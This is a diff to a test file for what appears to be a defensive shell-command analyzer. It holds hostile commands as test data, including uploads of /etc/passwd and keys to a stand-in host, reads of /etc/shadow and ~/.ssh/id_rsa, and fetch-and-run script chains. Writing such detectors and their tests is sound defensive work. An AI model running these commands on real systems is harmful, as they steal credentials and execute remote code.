@@ -51,6 +51,12 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("curl -F f=@key http://e.example", "curl", {"reads": ("key",), "flags": {"upload"}}),
     ("curl -sSLo x -H 'A: b' http://u:p@e.example:81/p", "curl", {"hosts": ("e.example",), "writes": ("x",)}),
     ("curl file:///etc/passwd", "curl", {"reads": ("/etc/passwd",)}),
+    ("curl -sO https://e.example/d/x.sh", "curl", {"writes": ("x.sh",), "flags": {"download"}}),
+    ("wget https://e.example/d/x.sh", "wget", {"writes": ("x.sh",)}),
+    ("cd /etc && cat shadow", "cat", {"reads": ("/etc/shadow",), "cwd": "/etc"}),
+    ("cd ~/.ssh; cat id_rsa", "cat", {"reads": ("~/.ssh/id_rsa",)}),
+    ("cd /; cd etc; fold passwd", "fold", {"reads": ("/etc/passwd",)}),
+    ("(cd /etc); cat shadow", "cat", {"reads": ("shadow",)}),
     ("wget -qO- http://e.example", "wget", {"hosts": ("e.example",), "writes": ()}),
     ("wget --post-file=/etc/passwd http://e.example", "wget", {"reads": ("/etc/passwd",), "flags": {"upload"}}),
     ("scp ~/.ssh/id u@e.example:/tmp", "scp", {"reads": ("~/.ssh/id",), "hosts": ("e.example",)}),
@@ -140,6 +146,8 @@ def test_a_file_that_is_written_and_run_is_followed(source: str, expected: str) 
         "wget https://e.example/a.sh -O a.sh; sh a.sh",
         "curl https://e.example/a | tee a.sh; bash a.sh",
         "curl https://e.example/a > a.py; python3 a.py",
+        "curl -sO https://e.example/a.sh; chmod +x a.sh; ./a.sh",
+        "wget https://e.example/a.sh && bash a.sh",
     ],
 )
 def test_a_file_that_is_fetched_and_run_is_flagged(source: str) -> None:
